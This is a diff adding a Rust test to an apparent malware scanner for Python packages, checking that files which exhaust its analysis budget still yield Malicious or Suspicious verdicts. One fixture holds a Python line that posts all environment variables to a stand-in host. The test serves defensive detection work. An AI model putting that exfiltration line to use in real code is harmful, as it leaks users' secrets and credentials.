@@ -78,6 +78,20 @@ fn what_cannot_be_read_is_not_clean() {
     assert_eq!((scan.verdict, scan.is_complete), (Verdict::Suspicious, false), "{scan:?}");
 }
 
+#[test]
+fn a_file_that_takes_all_room_hides_nothing_after_it() {
+    let filling = format!("import os\nx = '{}'\n{}", "a".repeat(16_000), "os.system(x)\n".repeat(700));
+    let theft: &[u8] = b"import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n";
+    let scan = of_files(&[("a.py", filling.as_bytes()), ("b.py", filling.as_bytes()), ("main.py", theft)]);
+    assert!(names(&scan).contains("environment-flow") && names(&scan).contains("too-costly"), "{:?}", names(&scan));
+    assert_eq!((scan.verdict, scan.is_complete), (Verdict::Malicious, false));
+    // What takes all room together is suspicious, too, though no file takes too much.
+    let half = format!("import os\nx = '{}'\n{}", "a".repeat(16_000), "os.system(x)\n".repeat(400));
+    let names_of = ["a.py", "b.py", "c.py", "d.py", "e.py"];
+    let scan = of_files(&names_of.map(|name| (name, half.as_bytes())));
+    assert_eq!((scan.verdict, scan.is_complete), (Verdict::Suspicious, false), "{:?}", names(&scan));
+}
+
 const MANIFEST: &str = "name: demo\nversion: 1.0.0\nmain: main.py\n";
 
 fn declared(manifest: &str) -> Declared {
